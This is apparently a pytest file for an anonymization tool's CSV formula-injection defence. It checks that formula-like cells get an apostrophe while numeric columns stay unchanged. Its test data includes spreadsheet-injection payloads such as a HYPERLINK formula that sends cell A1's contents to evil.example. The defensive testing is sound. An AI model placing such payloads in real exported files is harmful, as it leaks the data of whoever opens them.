"""CSV files meant to be opened in a spreadsheet: formula-like text cells get an apostrophe,
numbers never change (issue 14, item 10)."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from avatar_server.jobs.results import table_bytes
from avatar_yaml.spreadsheet_safety import (
    formula_like_counts,
    is_formula_like,
    neutralize_csv_file,
    neutralized_frame,
    write_neutralized_csv,
)
from avatars import ApiClient
from tests.server import ServerProcess

AVATARS = str(Path(sys.executable).parent / "avatars")

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(A1:A9)", "+1+2", "-2+3", "\t=1", "\r=1"]
HARMLESS = ["ok", "", "a=b", "-12.5", "+33", "-1e-05", ".5", "'=already"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_like_cells_are_recognised(cell: str) -> None:
    assert is_formula_like(cell)


@pytest.mark.parametrize("cell", HARMLESS)
def test_plain_text_and_numbers_are_not(cell: str) -> None:
    assert not is_formula_like(cell)


def test_a_negative_float_column_round_trips_unchanged(tmp_path: Path) -> None:
    rng = np.random.default_rng(0)
    frame = pd.DataFrame(
        {
            "delta": -rng.random(500) * 1e6,
            "tiny": -rng.random(500) * 1e-9,
            "count": -rng.integers(0, 10**9, 500),
            "note": rng.choice([*FORMULAS, *HARMLESS[:2]], 500),
        }
    )
    path = tmp_path / "out.csv"
    neutralized = write_neutralized_csv(frame, path)
    back = pd.read_csv(path, keep_default_na=False)
    for column in ("delta", "tiny", "count"):
        pd.testing.assert_series_equal(back[column], frame[column])
    expected = [f"'{cell}" if is_formula_like(cell) else cell for cell in frame["note"]]
    # \r inside a quoted field is kept by the CSV writer and reader.
    assert back["note"].tolist() == expected
    assert neutralized == sum(
        cell != after for cell, after in zip(frame["note"], expected, strict=True)
    )
    assert neutralized > 0
    # A result file as the server writes it, rewritten row by row with no types: no number
    # is touched either.
    path.write_bytes(table_bytes(frame, "csv"))
    assert neutralize_csv_file(path) == neutralized
    again = pd.read_csv(path, keep_default_na=False)
    pd.testing.assert_frame_equal(again, back)


def test_only_text_columns_and_names_are_neutralized() -> None:
    frame = pd.DataFrame(
        {
            "=name": ["=1", "x"],
            "category": pd.Categorical(["@a", "b"]),
            "number": [-1.5, 2.0],
            "flag": [True, False],
        }
    )
    assert formula_like_counts(frame) == {"=name": 1, "category": 1}
    safe = neutralized_frame(frame)
    assert list(safe.columns) == ["'=name", "category", "number", "flag"]
    assert safe["'=name"].tolist() == ["'=1", "x"]
    assert safe["category"].tolist() == ["'@a", "b"]
    assert safe["number"].tolist() == [-1.5, 2.0] and safe["flag"].dtype == bool
    assert frame["=name"].tolist() == ["=1", "x"]  # the input is not changed


def test_quoted_fields_spanning_lines_survive_the_rewrite(tmp_path: Path) -> None:
    path = tmp_path / "multi.csv"
    path.write_text('a,b\n"=line one\nline two",-3\n"x, y",@z\n', encoding="utf-8")
    assert neutralize_csv_file(path) == 2
    back = pd.read_csv(path)
    assert back["a"].tolist() == ["'=line one\nline two", "x, y"]
    assert back["b"].tolist() == ["-3", "'@z"]


def _table(rows: int = 240) -> pd.DataFrame:
    rng = np.random.default_rng(3)
    return pd.DataFrame(
        {
            "balance": np.round(-rng.random(rows) * 5_000, 2),
            "age": rng.integers(18, 90, rows),
            "status": rng.choice(['=HYPERLINK("http://evil.example")', "@risk", "fine"], rows),
        }
    )


def test_the_cli_writes_a_safe_copy_neutralizes_downloads_and_the_report_says_why(
    server: ServerProcess, user: ApiClient, tmp_path: Path
) -> None:
    _table().to_csv(tmp_path / "accounts.csv", index=False)
    env = {k: v for k, v in os.environ.items() if not k.startswith("AVATAR_")}
    env |= {"AVATAR_API_KEY": user.api_keys.create_api_key("cli").key, "AVATAR_PROGRESS": "0"}

    def avatars(*args: str) -> str:
        done = subprocess.run(
            [AVATARS, *args, "--base-url", server.base_url],
            env=env,
            cwd=tmp_path,
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert done.returncode == 0, done.stderr[-3000:]
        return done.stdout

    printed = avatars("anonymize", "accounts.csv", "-o", "out", "--seed", "2", "--accept-risk")
    # The avatars file is the server's (the manifest hashes it); the copy to open in a
    # spreadsheet has the apostrophes.
    assert "accounts.avatars.spreadsheet-safe.csv: the same with an apostrophe" in printed
    raw_avatars = pd.read_csv(tmp_path / "out" / "accounts.avatars.csv")
    assert raw_avatars["status"].str.startswith(("=", "@")).any()
    written = pd.read_csv(tmp_path / "out" / "accounts.avatars.spreadsheet-safe.csv")
    assert set(written["status"]) <= {'\'=HYPERLINK("http://evil.example")', "'@risk", "fine"}
    assert written["status"].str.startswith("'").any()
    assert (written["balance"] <= 0).all()
    pd.testing.assert_series_equal(written["balance"], raw_avatars["balance"])
    again = avatars(
        "anonymize",
        "accounts.csv",
        *("-o", "kept", "--name", "accounts_kept", "--seed", "2"),
        *("--accept-risk", "--keep-formulas"),
    )
    assert "spreadsheet-safe" not in again
    assert not (tmp_path / "kept" / "accounts.avatars.spreadsheet-safe.csv").exists()
    report = (tmp_path / "out" / "accounts.report.html").read_text(encoding="utf-8")
    assert "Text a spreadsheet would run as a formula" in report
    assert "put an apostrophe in front of each" in report

    job = next(
        j.name for j in user.jobs.get_jobs(display_name="accounts").jobs if j.kind == "standard"
    )
    listed = avatars("results", job, "--download", "safe")
    assert "accounts.shuffled.spreadsheet-safe.csv: the same with an apostrophe" in listed
    avatars("results", job, "--download", "raw", "--keep-formulas")
    assert not (tmp_path / "raw" / "accounts.shuffled.spreadsheet-safe.csv").exists()
    # The downloaded file is the server's either way: the run's manifest names it.
    stored = (tmp_path / "safe" / "accounts.shuffled.csv").read_bytes()
    assert stored == (tmp_path / "raw" / "accounts.shuffled.csv").read_bytes()
    verified = subprocess.run(
        [AVATARS, "verify", "out/release_manifest.json", "safe/accounts.shuffled.csv"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert "is the shuffled file 'accounts.shuffled.csv'" in verified.stdout
    safe = pd.read_csv(tmp_path / "safe" / "accounts.shuffled.spreadsheet-safe.csv")
    raw = pd.read_csv(tmp_path / "raw" / "accounts.shuffled.csv")
    pd.testing.assert_series_equal(safe["balance"], raw["balance"])  # negative floats as they are
    pd.testing.assert_series_equal(safe["age"], raw["age"])
    assert safe["status"].tolist() == [f"'{s}" if s != "fine" else s for s in raw["status"]]
    # What the client reads for analysis is the stored data, not the neutralized file.
    shuffled = user.results.read_table(
        job, next(f for f in user.results.get_results(job).files if f.kind == "shuffled")
    )
    pd.testing.assert_frame_equal(shuffled, raw)
